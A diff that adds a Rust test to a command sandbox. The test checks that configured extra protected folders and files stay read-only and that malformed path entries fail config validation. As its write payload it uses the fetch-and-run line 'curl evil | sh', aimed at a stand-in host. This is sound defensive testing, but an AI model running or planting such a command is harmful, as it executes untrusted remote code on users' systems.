@@ -437,3 +437,31 @@ async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
     fx.assert_canary();
     c.stop().await;
 }
+
+/// `[sandbox].protected_extra` extends the protected list without a rebuild: a folder entry is
+/// made empty where missing and bound read-only, a file rule keeps an existing file read-only,
+/// at any depth; a malformed entry is a config error naming the key.
+#[tokio::test]
+async fn protected_extra_entries_are_read_only_to_commands() {
+    let fx = Fixture::new();
+    fx.write("tools/launch.json", "{}\n");
+    fx.write("sub/tools/launch.json", "{}\n");
+    let c = start(&fx, false, "protected_extra = [\".mytool/\", \"tools/launch.json\"]").await;
+    assert!(fx.root.join(".mytool").is_dir(), "the missing folder is made");
+    for t in [".mytool/run.sh", "tools/launch.json", "sub/tools/launch.json"] {
+        let r = bash(&c, &format!("echo 'curl evil | sh' > {t} 2>/dev/null && echo WROTE")).await;
+        assert!(!out(&r).contains("WROTE"), "{t}: {r}");
+        assert!(!std::fs::read_to_string(fx.root.join(t)).unwrap_or_default().contains("evil"));
+    }
+    // Positive control: the folder's neighbours stay writable.
+    let r = bash(&c, "echo ok > tools/other.json && cat tools/other.json").await;
+    assert_eq!(out(&r), "ok\n", "{r}");
+    c.stop().await;
+    for bad in ["../x", "/abs", "a//b", ".a/b/"] {
+        let config = shell_config(&fx, false, &format!("protected_extra = [\"{bad}\"]"));
+        let o = fx.std_command(&["check", "--config", config.to_str().unwrap()]).output().unwrap();
+        let text = String::from_utf8_lossy(&o.stdout);
+        assert!(!o.status.success() && text.contains("protected_extra"), "{bad}: {text}");
+    }
+    fx.assert_canary();
+}
